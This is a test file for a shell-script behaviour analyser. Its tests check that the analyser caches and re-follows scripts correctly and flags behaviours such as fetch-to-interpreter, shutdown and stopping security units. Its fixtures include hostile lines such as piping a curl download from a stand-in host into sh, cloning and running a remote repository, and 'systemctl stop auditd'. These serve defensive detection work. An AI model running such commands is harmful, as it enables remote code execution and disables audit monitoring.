import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { MemoryEntry } from "../hosts/memory.ts";
import { openPrograms, type Programs } from "./follow.ts";
import type { Followed } from "./program.ts";
import { commandOf, contextOf, ELF, hostWith, kinds, script } from "./support.test-support.ts";

/** Long enough to be kept. */
const LONG = "true\n".repeat(120);

interface Run {
  readonly argv: readonly string[];
  readonly environment?: Record<string, string>;
  readonly directory?: string;
  readonly home?: string;
  /** The most steps. */
  readonly nodes?: number;
}

type Files = Record<string, MemoryEntry>;

/** Follows runs one after the other with one memory, the last of them also without. */
function lastOf(files: Files, runs: readonly Run[]): { readonly all: Followed[]; readonly alone: Followed } {
  const host = hostWith(files);
  const follow = (programs: Programs, { argv, environment, directory, home, nodes }: Run): Followed =>
    programs.follow(
      commandOf(argv, environment),
      contextOf(host, {
        workingDirectory: directory ?? null,
        ...(home === undefined ? {} : { home }),
        ...(nodes === undefined ? {} : { limits: { nodes } }),
      }),
    );
  const programs = openPrograms(host);
  const all = runs.map((run) => follow(programs, run));
  const last = runs.at(-1);
  if (last === undefined) throw new Error("no runs");
  return { all, alone: follow(openPrograms(host), last) };
}

const sh = (code: string, more: Omit<Run, "argv"> = {}): Run => ({ argv: ["/bin/sh", "-c", code], ...more });

describe("a script is followed once for callers it cannot tell apart", () => {
  const files = { "/srv/a": script(`#!/bin/sh\n${LONG}curl http://192.0.2.7/x | sh\n`) };
  test("what it does is the same finding, not an equal one", () => {
    const { all, alone } = lastOf(files, [{ argv: ["/srv/a"] }, { argv: ["/srv/a"] }]);
    const found = (followed: Followed | undefined) =>
      followed?.behaviours.find(({ kind }) => kind === "fetch-to-interpreter");
    expect(found(all[1])).toBeDefined();
    expect(found(all[1])).toBe(found(all[0]));
    expect(found(all[1])).not.toBe(found(alone));
  });
  test("behind another caller, with that caller's chain and depth", () => {
    const { all, alone } = lastOf({ ...files, "/srv/b": script("#!/bin/sh\nnice env /srv/a\n") }, [
      { argv: ["/srv/a"] },
      { argv: ["/srv/b"] },
    ]);
    expect(all[1]).toEqual(alone);
    const curl = all[1]?.reached.find(({ path }) => path === "/usr/bin/curl");
    expect([curl?.via, curl?.depth]).toEqual([["nice", "env"], 2]);
  });
});

describe("what it can tell apart is followed anew", () => {
  const A = "/srv/a";
  const long = (code: string): MemoryEntry => script(`#!/bin/sh\n${LONG}${code}\n`);
  const rows: readonly (readonly [string, Files, Run, Run, string[]])[] = [
    [
      "other arguments",
      { [A]: long('eval "$1"') },
      { argv: [A, "true"] },
      { argv: [A, "reboot"] },
      ["shutdown"],
    ],
    ["fewer arguments", { [A]: long('eval "$1"') }, { argv: [A, "reboot"] }, { argv: [A] }, []],
    [
      "another variable of the unit",
      { [A]: long('eval "$X"') },
      { argv: [A], environment: { X: "true" } },
      { argv: [A], environment: { X: "reboot" } },
      ["shutdown", "variable-to-interpreter"],
    ],
    ["a variable of the caller", { [A]: long("$X") }, sh(A), sh(`X=reboot; export X; ${A}`), ["shutdown"]],
    ["a variable unset", { [A]: long("$X") }, sh(`X=reboot; ${A}`), sh(A), []],
    [
      "a variable in a script of the script",
      { [A]: long("/srv/b"), "/srv/b": script("#!/bin/sh\n$X\n") },
      sh(A),
      sh(`X=reboot; ${A}`),
      ["shutdown"],
    ],
    [
      "one of a variable's alternatives",
      { [A]: long("$X") },
      sh(`X=true; ${A}`),
      sh(`if true; then X=true; else X=reboot; fi; ${A}`),
      ["shutdown"],
    ],
    [
      "the directory",
      { [A]: long(". ./lib"), "/srv/one/lib": "true\n", "/srv/two/lib": "reboot\n" },
      { argv: [A], directory: "/srv/one" },
      { argv: [A], directory: "/srv/two" },
      ["shutdown"],
    ],
    [
      "the search path",
      { [A]: long("helper"), "/opt/x/helper": script("#!/bin/sh\nreboot\n") },
      sh(A),
      sh(`PATH=/opt/x:$PATH; ${A}`),
      ["shutdown"],
    ],
    [
      "a file written before",
      { [A]: long(". /srv/made") },
      sh(A),
      sh(`echo reboot > /srv/made; ${A}`),
      ["shutdown"],
    ],
    [
      "how often another script ran",
      { [A]: long("/srv/b"), "/srv/b": script("#!/bin/sh\n$X\n") },
      sh(A, { environment: { X: "reboot" } }),
      sh(`(X=true; /srv/b; /srv/b); ${A}`, { environment: { X: "reboot" } }),
      [],
    ],
    ["what it is given to read", { [A]: long("sh") }, sh(A), sh(`echo reboot | ${A}`), ["shutdown"]],
    [
      "the home of the account",
      { [A]: long("bash -l -c true"), "/home/x/.profile": "reboot\n" },
      { argv: [A] },
      { argv: [A], home: "/home/x" },
      ["shutdown"],
    ],
    [
      "nothing that matters",
      { [A]: long("reboot") },
      sh(`Y=1; cd /srv; ${A}`),
      sh(`nice ${A}`),
      ["shutdown"],
    ],
  ];
  test.each(rows)("%s", (_, files, first, second, expected) => {
    const { all, alone } = lastOf(files, [first, second]);
    expect(all[1]).toEqual(alone);
    expect(all[1] === undefined ? [] : kinds(all[1])).toEqual(expected);
  });

  test("the name it is called by", () => {
    const files = {
      [A]: long('exec "$0.real"'),
      "/srv/l": { link: "a" },
      "/srv/l.real": script("#!/bin/sh\nreboot\n"),
    };
    const { all } = lastOf(files, [{ argv: [A] }, { argv: ["/srv/l"] }]);
    expect(all.map((followed) => kinds(followed))).toEqual([[], ["shutdown"]]);
  });

  const line = fc.constantFrom(
    "/srv/a",
    "/srv/b x",
    '/srv/c "$1"',
    "sh /srv/b",
    ". /srv/c",
    "cd /srv",
    "./a",
    "X=reboot",
    "X=1; Y=$X",
    "$X",
    'eval "$1"',
    "if true; then X=reboot; else X=halt; fi",
    "f() { $1 $X; }; f /srv/b; f true",
    "f",
    "echo reboot > /srv/made; chmod +x /srv/made",
    "/srv/made",
    ". /srv/made",
    "curl http://192.0.2.7/x -o /srv/made",
    "curl http://192.0.2.7/x | sh",
    "git clone http://192.0.2.7/r /srv/r; sh /srv/r/i",
    "sha256sum -c /srv/sums",
    "PATH=/opt/x:$PATH",
    "helper",
    "apt-get update",
    "run-parts /srv/parts",
    "echo x | /srv/a",
    "y=$(/srv/b)",
    "/srv/c >/dev/null 2>&1",
    "unset X",
    "for i in 1 2; do /srv/c $i; done",
    "(X=2; /srv/b)",
    "python3 /srv/p",
  );
  const body = fc
    .array(line, { maxLength: 6 })
    .map((lines) => script(`#!/bin/sh\n${LONG}${lines.join("\n")}\n`));
  const files = fc.record({
    "/srv/a": body,
    "/srv/b": body,
    "/srv/c": body,
    "/srv/parts/one": body,
    "/srv/parts/two": body,
  });
  const run = fc.oneof(
    fc.constantFrom("/srv/a", "/srv/b", "/srv/c", "/srv/parts/one").map((path): Run => ({ argv: [path] })),
    fc
      .constantFrom("/srv/a", "/srv/b")
      .map((path): Run => ({ argv: [path, "reboot"], environment: { X: "halt" } })),
    fc.array(line, { minLength: 1, maxLength: 3 }).map((lines) => sh(lines.join("; "))),
  );
  test("any runs before change nothing, as long as the steps suffice", () => {
    const fixed = {
      "/opt/x/helper": ELF,
      "/usr/bin/helper": ELF,
      "/usr/bin/run-parts": ELF,
      "/etc/apt/apt.conf.d/9x": 'DPkg::Post-Invoke { "/srv/c"; };\n',
      "/srv/p": 'import os\nos.system("/srv/a; X=reboot")\nos.system("$X")\n',
    };
    fc.assert(
      fc.property(files, fc.array(run, { minLength: 2, maxLength: 4 }), (some, runs) => {
        const { all, alone } = lastOf({ ...fixed, ...some }, runs);
        fc.pre(!alone.gaps.some(({ reason }) => reason.includes("steps of code")));
        expect(all.at(-1)).toEqual(alone);
      }),
      { numRuns: 120 * Number(process.env["TIMERWARDEN_DIFF"] ?? 1) },
    );
  });
});

describe("a script too long for the steps", () => {
  const huge = (code: string): MemoryEntry => script(`#!/bin/sh\n${code}\n${"true\n".repeat(5_000)}`);
  const gaps = (followed: Followed | undefined) => followed?.gaps.map(({ reason }) => reason);
  test("is read once for words that decide nothing, and says each time that it was not read to its end", () => {
    const { all } = lastOf({ "/srv/a": huge("reboot") }, [
      { argv: ["/srv/a", "--one"], nodes: 4000 },
      { argv: ["/srv/a", "--two", "daily"], nodes: 4000 },
    ]);
    const [first, second] = all;
    const off = (followed: Followed | undefined) =>
      followed?.behaviours.find(({ kind }) => kind === "shutdown");
    expect(off(second)).toBeDefined();
    expect(off(second)).toBe(off(first));
    expect(gaps(second)).toContain("more than 4000 steps of code");
    expect(gaps(second)).toEqual(gaps(first));
  });
  const rows: readonly (readonly [string, Run])[] = [
    ["code", { argv: ["/srv/a", "systemctl stop auditd"] }],
    ["a variable of the unit", { argv: ["/srv/a"], environment: { X: "systemctl stop auditd" } }],
    ["a variable of the caller", sh("X='systemctl stop auditd'; /srv/a")],
    ["a file written before", sh("echo systemctl stop auditd > /srv/made; /srv/a")],
    ["another directory", { argv: ["/srv/a"], directory: "/srv/two" }],
  ];
  test.each(rows)("is read again for %s", (_, second) => {
    const { all } = lastOf(
      {
        "/srv/a": huge('eval "$1"; eval "$X"; . /srv/made; . ./lib'),
        "/srv/two/lib": "systemctl stop auditd\n",
      },
      [
        { argv: ["/srv/a"], nodes: 4000 },
        { ...second, nodes: 4000 },
      ],
    );
    expect(all[1] === undefined ? [] : kinds(all[1])).toContain("stops-security-unit");
  });
});
